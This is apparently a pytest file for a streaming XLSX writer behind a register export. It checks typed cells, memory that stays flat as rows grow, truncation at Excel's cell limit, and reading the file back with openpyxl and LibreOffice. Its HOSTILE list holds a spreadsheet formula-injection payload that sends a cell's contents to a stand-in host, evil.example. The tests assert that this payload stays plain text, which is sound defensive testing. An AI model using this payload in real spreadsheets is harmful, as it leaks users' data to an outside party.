"""The streaming XLSX writer (app/letters/sheets.py) behind the register export and the
report's annex: typed cells read back by openpyxl and LibreOffice, hostile text kept as
text, and memory that does not grow with the rows (issue 18, item 5)."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import tracemalloc
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.letters import sheets
from app.letters.errors import LetterError
from app.letters.exports import HEADINGS, export_register
from app.letters.names import TYPE_NAMES
from app.letters.sheets import CELL_LIMIT, TRUNCATED_MARK, Workbook, fit_cell
from tests.builders import ALMATY, add_request, new_register, said

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")

#: Text a spreadsheet must show as typed: formulas, markup, CDATA's end, entities.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click to verify")', "<b>bold</b>",
           "]]>", "A & B", "&amp;", "+7 705 123 45 67", "@SUM(A1)"]
#: What only the writer is given (the register trims names and keeps them on one line).
SPACES = ["  spaced  ", "two\nlines", "\ttab"]


def _book(path: Path, fill) -> Path:
    scratch = path.parent / "scratch"
    scratch.mkdir(exist_ok=True)
    with open(path, "wb") as f, Workbook(f, scratch) as book:
        fill(book)
    assert list(scratch.iterdir()) == [p for p in scratch.iterdir() if p.suffix == ".xml"]
    return path


def _sheet_xml(path: Path, n: int = 1) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{n}.xml").decode("utf-8")


def test_every_cell_comes_back_with_its_type(tmp_path):
    moment = datetime(2026, 1, 10, 9, 30, tzinfo=ALMATY)

    def fill(book):
        sheet = book.add_sheet("Журнал")
        sheet.freeze_panes(1)
        sheet.set_column(0, 0, 14)
        sheet.set_column(1, 2, 28)
        sheet.header(["Text", "When", "Day", "Count", "Share", "Flag", "Empty"])
        sheet.append(["Әйгерім", moment, date(2026, 2, 3), 42, 0.5, True, None])
        sheet.append([])
        sheet.append(["", None, date(1899, 1, 1), float("nan"), 10 ** 20])
        other = book.add_sheet("Deadlines")
        other.append(["only"])

    out = _book(tmp_path / "t.xlsx", fill)
    wb = load_workbook(out)
    assert wb.sheetnames == ["Журнал", "Deadlines"]
    ws = wb["Журнал"]
    assert ws.freeze_panes == "A2"
    assert ws.dimensions == "A1:G4"
    assert round(ws.column_dimensions["A"].width) == 15
    assert round(ws.column_dimensions["C"].width) == 29
    assert [c.value for c in ws[1]] == ["Text", "When", "Day", "Count", "Share", "Flag",
                                        "Empty"]
    assert all(c.font.b for c in ws[1])
    row = ws[2]
    assert (row[0].value, row[0].data_type) == ("Әйгерім", "s")
    assert row[1].value == datetime(2026, 1, 10, 9, 30)  # the wall time, no zone
    assert row[1].number_format == "yyyy-mm-dd hh:mm"
    assert row[2].value == datetime(2026, 2, 3) and row[2].number_format == "yyyy-mm-dd"
    assert (row[3].value, row[3].data_type) == (42, "n")
    assert row[4].value == 0.5
    assert (row[5].value, row[5].data_type) == ("True", "s")  # never a formula's boolean
    assert row[6].value is None
    assert all(c.value is None for c in ws[3])
    # Before Excel's first day, and a number Excel cannot hold: text.
    assert [c.value for c in ws[4]][:5] == [None, None, "1899-01-01", "nan",
                                            "100000000000000000000"]
    assert wb["Deadlines"]["A1"].value == "only"
    assert wb["Deadlines"].freeze_panes is None


def test_a_book_without_rows_is_still_a_workbook(tmp_path):
    out = _book(tmp_path / "empty.xlsx", lambda book: None)
    ws = load_workbook(out).active
    assert ws.max_row == 1 and ws["A1"].value is None


def test_hostile_cells_are_text_and_the_file_stays_whole(tmp_path):
    lone = "lone\ud800half"
    astral = "😀" * 20000  # 40,000 UTF-16 units in 20,000 characters

    def fill(book):
        sheet = book.add_sheet("Sheet]: *?/\\'")
        for text in [*HOSTILE, *SPACES, "nul\x00byte\x1b[2J", "not\ufffexml\uffff", lone,
                     "x" * 40000, astral]:
            sheet.append([text])

    out = _book(tmp_path / "h.xlsx", fill)
    xml = _sheet_xml(out)
    assert "<f>" not in xml and "<b>" not in xml and "]]>" not in xml
    ws = load_workbook(out).active
    assert ws.title == "Sheet__ ____"  # what Excel refuses in a name is gone
    values = [ws.cell(row=r, column=1).value for r in range(1, ws.max_row + 1)]
    assert values[:len(HOSTILE) + len(SPACES)] == HOSTILE + SPACES
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(1, ws.max_row + 1))
    rest = values[len(HOSTILE) + len(SPACES):]
    assert rest[0] == "nulbyte[2J"  # control characters go, the rest stays
    assert rest[1] == "not\ufffdxml\ufffd"
    assert rest[2] == "lone\ufffdhalf"
    assert len(rest[3]) == CELL_LIMIT and rest[3].endswith(TRUNCATED_MARK)
    assert rest[4].endswith(TRUNCATED_MARK)
    assert len(rest[4].encode("utf-16-le")) // 2 <= CELL_LIMIT
    assert "\ufffd" not in rest[4]  # no pair of the emoji was cut in two


def test_a_text_is_cut_only_past_excels_limit():
    assert fit_cell("x" * CELL_LIMIT) == "x" * CELL_LIMIT
    cut = fit_cell("y" * (CELL_LIMIT + 1))
    assert len(cut) == CELL_LIMIT and cut.endswith(TRUNCATED_MARK)


@pytest.fixture
def hostile_register(tmp_path):
    register = new_register(tmp_path)
    names = [*HOSTILE, "a\x00b", "not\ufffexml", "_x0041_", "Ж" * 40000]
    for i, name in enumerate(names):
        add_request(register, name=name, email=f"{i}@example.kz",
                    received=datetime(2026, 3, 1 + i, 9, tzinfo=ALMATY))
    yield register, names
    register.close()


def test_hostile_names_in_the_register_come_back_as_typed(hostile_register, tmp_path):
    register, names = hostile_register
    out = tmp_path / "r.xlsx"
    assert export_register(register, "xlsx", out, lang="en")["requests"] == len(names)
    ws = load_workbook(out).active
    got = [ws.cell(row=r, column=4).value for r in range(2, 2 + len(names))]
    assert got[:len(HOSTILE)] == HOSTILE
    # openpyxl does not decode Excel's "_xHHHH_" escapes (LibreOffice does: see below).
    assert got[len(HOSTILE):-1] == ["ab", "not\ufffdxml", "_x005F_x0041_"]
    assert len(got[-1]) == CELL_LIMIT and got[-1].endswith(TRUNCATED_MARK)
    assert all(ws.cell(row=r, column=4).data_type == "s" for r in range(2, 2 + len(names)))
    assert ws.cell(row=2, column=2).value == datetime(2026, 3, 1, 9)


def test_export_rows_come_back_counted_and_typed(tmp_path):
    register = new_register(tmp_path)
    try:
        for i in range(60):
            add_request(register, name=f"Заявитель {i}",
                        received=datetime(2026, 1, 1 + i % 28, 9, i % 60, tzinfo=ALMATY))
        out = tmp_path / "r.xlsx"
        export_register(register, "xlsx", out, lang="ru",
                        rules=[{"type": "access", "from": date(2020, 1, 1), "count": 3,
                                "unit": "working_days", "basis_kind": "law",
                                "citation": {"ru": "ст. 20", "kk": "20-б", "en": "Art. 20"},
                                "source": "app", "added_by": ""}])
    finally:
        register.close()
    book = load_workbook(out, read_only=True)
    assert book.sheetnames == [HEADINGS["ru"]["title"][:31], "Сроки"]
    ws = book.worksheets[0]
    assert ws.max_row == 61 and ws.max_column == 13
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 60
    assert all(isinstance(r[1], datetime) and isinstance(r[11], datetime) for r in rows)
    assert all(isinstance(r[0], str) and isinstance(r[3], str) for r in rows)
    rules = list(book["Сроки"].iter_rows(values_only=True))
    assert rules[1][:3] == (TYPE_NAMES["ru"]["access"], datetime(2020, 1, 1), 3)


def _rows(count: int):
    for i in range(count):
        yield [f"IN-2026-{i:06}", datetime(2026, 1, 1, 9, i % 60), "Эл. почта",
               f"Ахметова Айгерим {i}", f"user{i}@example.kz", "+7 701 555 12 34",
               "Доступ; Удаление", "ru", "Обратный звонок: подтверждено", "Получено", "",
               date(2026, 1, 6), None]


def _peak(tmp_path: Path, count: int) -> tuple[int, int]:
    folder = tmp_path / str(count)
    folder.mkdir()

    def fill(book):
        sheet = book.add_sheet("rows")
        for row in _rows(count):
            sheet.append(row)

    tracemalloc.start()
    try:
        _book(folder / "r.xlsx", fill)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    with zipfile.ZipFile(folder / "r.xlsx") as z:
        xml_size = z.getinfo("xl/worksheets/sheet1.xml").file_size
    return peak, xml_size


def test_memory_stays_flat_whatever_the_number_of_rows(tmp_path):
    small, _ = _peak(tmp_path, 2_000)
    large, xml_size = _peak(tmp_path, 20_000)
    print(f"peak {small} B for 2,000 rows, {large} B for 20,000; XML {xml_size} B")
    assert xml_size > 15_000_000  # what holding the rows' XML would take
    assert large < xml_size / 4
    assert large < small * 1.5  # ten times the rows, not more memory


@pytest.mark.skipif(SOFFICE is None and os.environ.get("CI") != "true",
                    reason="needs LibreOffice (apt: libreoffice-calc-nogui); runs in CI")
def test_libreoffice_reads_the_export(hostile_register, tmp_path):
    assert SOFFICE, "LibreOffice must be installed in CI"
    register, names = hostile_register
    out = tmp_path / "r.xlsx"
    export_register(register, "xlsx", out, lang="en")
    converted = tmp_path / "converted"
    subprocess.run([SOFFICE, f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                    "--headless", "--norestore", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(converted),
                    str(out)], check=True, capture_output=True, timeout=300,
                   stdin=subprocess.DEVNULL)
    with open(converted / "r.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][:4] == ["In. No.", "Received", "Channel", "Requester"]
    assert len(rows) == 1 + len(names)
    assert [r[3] for r in rows[1:-1]] == HOSTILE + ["ab", "not\ufffdxml", "_x0041_"]
    assert rows[1][1] == "2026-03-01 09:00"
    assert rows[-1][3].endswith(TRUNCATED_MARK)


def test_more_rows_than_a_sheet_holds_is_one_sentence_and_no_file(tmp_path, monkeypatch):
    register = new_register(tmp_path)
    try:
        for i in range(6):
            add_request(register, name=f"Заявитель {i}")
        monkeypatch.setattr(sheets, "MAX_ROWS", 5)  # Excel's 1,048,576 rows take minutes
        out_dir = tmp_path / "out"
        out_dir.mkdir()
        with pytest.raises(LetterError) as raised:
            export_register(register, "xlsx", out_dir / "r.xlsx", lang="en")
    finally:
        register.close()
    assert said(raised.value) == ("An Excel sheet holds at most 5 rows and this export has "
                                  "more; nothing was written. Export a shorter period, or "
                                  "as CSV.")
    assert list(out_dir.iterdir()) == []  # no target, no scratch folder left
